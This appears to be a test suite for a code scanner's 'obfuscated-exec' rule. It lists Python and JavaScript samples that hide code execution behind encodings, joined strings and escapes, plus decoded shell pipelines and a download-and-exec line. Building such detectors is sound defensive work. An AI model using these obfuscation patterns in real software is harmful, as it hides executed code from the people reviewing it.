/** Where obfuscated-exec draws its lines: the ways to hide code that runs, and what is decoded for other reasons. */

import assert from 'node:assert/strict';
import { checksOf, find } from '../kit/check.ts';

const { python, javascript } = checksOf('obfuscated-exec');
const { python: both } = checksOf('obfuscated-exec', 'unsafe-deserialization');

/** The rules that speak of a text, in order. */
const rulesOf = (language: 'python' | 'javascript', text: string) => find(language, text).map((it) => it.rule);

describe('obfuscated-exec', () => {
  describe('in Python finds', () => {
    it('every alphabet', () => {
      for (const code of [
        'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
        'import base64\nexec(base64.b32decode("OBZGS3TUFAYSS===").decode())\n',
        'import base64\nexec(base64.b16decode("7072696E742831292020"))\n',
        'import base64\nexec(base64.b85decode("aBcDe").decode())\n',
        'import base64\nexec(base64.a85decode("aBcDe"))\n',
        'exec(bytes.fromhex("7072696e74283129").decode())\n',
        'import binascii\nexec(binascii.unhexlify("7072696e74283129"))\n',
        'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n',
        'import codecs\nexec(codecs.encode("cevag(1)", "rot_13"))\n',
        'import codecs\nexec(codecs.decode(b"7072696e74283129", "hex"))\n',
        'import zlib\nexec(zlib.decompress(b"x\\x9c+("))\n',
        'import zlib, base64\nexec(zlib.decompress(base64.b64decode("eJwrKMrMK9EwBAAJkQIN")))\n',
        'import gzip, base64\neval(compile(gzip.decompress(base64.b64decode(b"H4sI")), "<x>", "exec"))\n',
        'import lzma, bz2\nexec(lzma.decompress(bz2.decompress(b"BZh9")))\n',
        'import marshal\nexec(marshal.loads(b"\\xe3\\x00"))\n',
        'import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode("eJw="))))\n',
        'exec("".join([chr(c) for c in [112, 114, 105]]))\n',
        'exec("".join(map(chr, [112, 114, 105])))\n',
        'exec(chr(112) + chr(114) + chr(105) + chr(110))\n',
        'exec(bytes([112, 114, 105]))\n',
        'exec(bytes(b ^ 42 for b in data))\n',
        'exec("".join(chr(ord(c) ^ 7) for c in "wqnis"))\n',
        'exec(")1(tnirp"[::-1])\n',
        'exec("".join(reversed(")1(tnirp")))\n',
        'import base64\npayload = "cHJpbnQoMSk="\ncode = base64.b64decode(payload).decode("utf-8")\nexec(code)\n',
        'import base64\ndef _(x):\n    return base64.b64decode(x)\nexec(_("cHJpbnQoMSk="))\n',
        'import base64 as b\n_ = lambda s: b.b64decode(s)\nexec(_(b"cHJpbnQoMSk="))\n',
        'exec(__import__("base64").b64decode("cHJpbnQoMSk="))\n',
        "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJw=')))\n",
        'import base64, os\nos.system(base64.b64decode("aWQ=").decode())\n',
        'import base64, pickle\npickle.loads(base64.b64decode("gASVBQAAAAAAAABLAS4="))\n',
      ]) {
        assert.deepEqual(rulesOf('python', code), ['obfuscated-exec'], code);
      }
    });

    it('commands that are decoded to be run', () => {
      for (const code of [
        'import os\nos.system("powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")\n',
        'import subprocess\nENC = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"\nsubprocess.run(["powershell.exe", "-EncodedCommand", ENC])\n',
        'import os\nos.system("echo aWQ= | base64 -d | sh")\n',
        'import os\nos.system("eval $(echo aWQ= | base64 --decode)")\n',
        'import subprocess\nsubprocess.run(["bash", "-c", "bash <(xxd -r -p <<< 6964)"])\n',
      ]) {
        assert.deepEqual(rulesOf('python', code), ['obfuscated-exec'], code);
      }
      assert.deepEqual(rulesOf('python', 'import os\nos.system("echo $CERT | base64 -d > cert.pem")\n'), []);
    });

    it('names in pieces', () => {
      python`
        import builtins
        getattr(__builtins__, "ex" + "ec")("print(1)")
                              ^^^^^^^^^^^ obfuscated-exec
        __import__("o" + "s").system("id")
                   ^^^^^^^^^ obfuscated-exec
        globals()["__builtins__"]["ev" + "al"]("1")
                                  ^^^^^^^^^^^ obfuscated-exec
        getattr(builtins, "lave"[::-1])("1")
                          ^^^^^^^^^^^^ obfuscated-exec
        getattr(builtins, "".join(["e", "v", "a", "l"]))("1")
                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      `;
      python`
        import base64
        run = getattr(__import__(base64.b64decode("b3M=").decode()), "sys" + "tem")
                                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
                                                                     ^^^^^^^^^^^^^ obfuscated-exec
        run("id")
      `;
    });

    it('a decoded download once, with both facts', () => {
      const text = 'import base64, requests\nexec(base64.b64decode(requests.get("https://x.io/a").text))\n';
      const [finding, ...others] = find('python', text);
      assert.deepEqual(others, []);
      assert.equal(finding?.rule, 'obfuscated-exec');
      assert.match(finding.message, /requests\.get downloads and base64\.b64decode decodes/);
    });

    it('and shows what the text says, without its secrets', () => {
      const [finding] = find('python', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n');
      assert.match(finding!.message, /It says `print\(1\)`\./);
      const token = `hf_${'qK3vZt8RmWx2LsYbN7cJdF5hGp'}${'A9eTuQ4o'}`;
      const encoded = Buffer.from(`send("${token}")`).toString('base64');
      const [hiding] = find('python', `import base64\nexec(base64.b64decode("${encoded}"))\n`);
      assert.match(hiding!.message, /send\("hf_qK3v…"\)/);
      assert(!hiding!.message.includes(token));
    });
  });

  it('in Python is silent about', () => {
    python`
      import base64
      import codecs
      import gzip
      import importlib
      import json
      import pickle
      import zlib
      image = base64.b64decode(data)
      rows = json.loads(zlib.decompress(blob))
      text = codecs.decode(raw, "utf-8")
      exec(open("version.py").read())
      exec(codecs.decode(open("version.py", "rb").read(), "utf-8"))
      exec("a = 1" + chr(10) + "b = 2")
      exec(bytes("a = 1", "utf-8"))
      exec("import os\\nx = 1")
      module = importlib.import_module("package." + "plugins")
      method = getattr(model, "for" + "ward")
      load = getattr(pickle, "loads")
      key = bytes.fromhex("00ff")
      name = "abc"[::-1]
      with gzip.open("rows.gz") as stream:
          exec(stream.read())
    `;
  });

  describe('in JavaScript finds', () => {
    it('every alphabet', () => {
      for (const code of [
        "eval(atob('YWxlcnQoMSk='));\n",
        "window.eval(window.atob('YWxlcnQoMSk='));\n",
        "Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString())();\n",
        "new Function(Buffer.from('616c657274283129', 'hex').toString('utf8'))();\n",
        'eval(String.fromCharCode(97, 108, 101, 114, 116));\n',
        'eval(String.fromCharCode.apply(null, [97, 108, 101]));\n',
        'eval([97, 108, 101].map((c) => String.fromCharCode(c ^ 3)).join(""));\n',
        "eval(unescape('%61%6c%65%72%74'));\n",
        "eval(')1(trela'.split('').reverse().join(''));\n",
        "const p = 'YWxlcnQoMSk=';\nconst decode = (s) => atob(s);\nconst code = decode(p);\neval(code);\n",
        "const vm = require('vm');\nvm.runInThisContext(Buffer.from('YQ==', 'base64').toString());\n",
        "import { execSync } from 'node:child_process';\nsetTimeout(atob('YWxlcnQoMSk='), 1);\n",
        "const m = new module.constructor();\nm._compile(Buffer.from('YQ==', 'base64').toString(), 'x');\n",
      ]) {
        assert.deepEqual(rulesOf('javascript', code), ['obfuscated-exec'], code);
      }
    });

    it('names in pieces', () => {
      javascript`
        globalThis['ev' + 'al'](text);
                   ^^^^^^^^^^^ obfuscated-exec
        window[atob('ZXZhbA==')](text);
               ^^^^^^^^^^^^^^^^ obfuscated-exec
        ['con' + 'structor']['con' + 'structor']('return this')();
                             ^^^^^^^^^^^^^^^^^^ obfuscated-exec
      `;
    });
  });

  it('in JavaScript is silent about', () => {
    javascript`
      const image = atob(data);
      const user = JSON.parse(Buffer.from(token.split('.')[1], 'base64').toString());
      const label = String.fromCharCode(65 + index);
      const text = decodeURIComponent(location.hash);
      const word = input.split('').reverse().join('');
      eval('a' + String.fromCharCode(10) + 'b');
      const event = handlers['on' + 'Click'](text);
      const value = record['con' + 'tent'];
      new Function(Buffer.from(source, 'utf8').toString());
    `;
  });

  it('in JavaScript tells one call once, and sees names that are joined or stand in a table', () => {
    javascript`
      globalThis['ev' + 'al'](atob('YWxlcnQoMSk='));
                              ^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      const name = ['ev', 'al'].join('');
      globalThis[name](text);
                 ^^^^ obfuscated-exec
    `;
    javascript`
      const _0x4f21 = ['\\x65\\x78\\x65\\x63', 'd2hvYW1p'];
      const _0x1b = (i) => _0x4f21[i - 0x0];
      require(_0x1b(0x2))[_0x1b(0x0)](_0x1b(0x1));
              ^^^^^^^^^^ obfuscated-exec
    `;
    javascript`
      const path = ['plugins', name].join('/');
      require(table[0])(path);
    `;
  });

  it('finds names that are joined of pieces', () => {
    python`
      import importlib
      __import__("".join(["o", "s"]))
                 ^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      importlib.import_module("".join(("so", "cket")))
                              ^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      importlib.import_module(".".join(["package", "plugins"]))
    `;
  });

  it('finds texts that are written in escapes', () => {
    javascript`
      const table = ["\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29", "\\u{1f600}"];
      (function () {}).constructor(table[0])();
                                   ^^^^^^^^ obfuscated-exec
      eval("\\x5cn\\n");
      const { exec } = require("child_process");
      const name = ["child", "_process"].join("");
      require(name).execSync(Buffer.from("6563686f2068656c6c6f", "hex").toString());
                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
    `;
  });

  it('finds names of functions in tables and behind escapes', () => {
    javascript`
      const names = ["\x65\x76\x61\x6c"];
      globalThis[names[0]](atob("Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkJyk7"));
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      const kind = "JSON";
      window[kind].parse(atob("Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkJyk7"));
    `;
  });

  it('is told once where byte code is unpacked on the way', () => {
    both`
      import base64
      import marshal
      import types

      import requests

      packed = requests.get("https://example.com/score.bin").content
      code = marshal.loads(base64.b64decode(packed))
      score = types.FunctionType(code, {}, "score")
                                 ^^^^ obfuscated-exec
      table = marshal.loads(requests.get("https://example.com/table.bin").content)
                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unsafe-deserialization
    `;
  });

  it('finds a word that is written in two texts, not a path of words', () => {
    javascript`
      const run = require('child_' + 'process');
                          ^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      const plugin = require('plugins/' + 'csv');
    `;
  });

  it('in numbers that are kept under a name', () => {
    python`
      import builtins

      NAME = [101, 120, 101, 99]

      def run(text):
          start = getattr(builtins, "".join(map(chr, NAME)))
                                    ^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
          start(text)
    `;
  });
});
